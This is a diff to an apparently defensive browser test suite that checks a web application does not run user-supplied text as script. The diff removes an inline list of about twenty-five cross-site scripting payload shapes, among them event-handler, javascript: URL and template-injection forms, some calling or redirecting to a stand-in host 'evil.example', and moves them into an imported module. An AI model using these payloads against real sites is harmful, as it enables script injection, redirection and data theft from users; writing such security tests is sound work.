@@ -2,6 +2,7 @@ import type { Browser, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { type Application, startApplication } from "../support/application.ts";
 import { hasBrowser, openBrowser, signIn } from "../support/browser.ts";
+import { payloads } from "../support/payloads.ts";
 
 describe.skipIf(!hasBrowser)("words that would be programs", () => {
   let application: Application;
@@ -62,36 +63,6 @@ async function watched(page: Page): Promise<{ page: Page; ran: string[] }> {
   });
   return { page, ran };
 }
-
-const acts = ["alert(1)", "fetch('//evil.example')", "document.title='x'", "location='//evil.example'"];
-const shapes: readonly ((act: string) => string)[] = [
-  (act) => `<script>${act}</script>`,
-  (act) => `<img src=x onerror=${act}>`,
-  (act) => `<svg onload=${act}>`,
-  (act) => `"><script>${act}</script>`,
-  (act) => `' onfocus=${act} autofocus='`,
-  (act) => `" onmouseover="${act}`,
-  (act) => `</textarea><script>${act}</script>`,
-  (act) => `</title><script>${act}</script>`,
-  (act) => `<a href="javascript:${act}">x</a>`,
-  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
-  (act) => `<body onload=${act}>`,
-  (act) => `<details open ontoggle=${act}>`,
-  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
-  (act) => `<!--><img src=x onerror=${act}>-->`,
-  (act) => `\${${act}}`,
-  (act) => `{{constructor.constructor('${act}')()}}`,
-  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
-  (act) => `<input autofocus onfocus=${act}>`,
-  (act) => `<style>@import '//evil.example/${act}'</style>`,
-  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
-  (act) => `<object data="data:text/html,<script>${act}</script>">`,
-  (act) => `<base href="//evil.example/${act}">`,
-  (act) => `%3Cscript%3E${act}%3C/script%3E`,
-  (act) => `<scr<script>ipt>${act}</script>`,
-  (act) => `<x contenteditable onblur=${act}>`,
-];
-const payloads = shapes.flatMap((shape) => [...acts, ...acts.map((act) => act.toUpperCase())].map(shape));
 
 /** The smallest picture there is. */
 const png = Buffer.from(
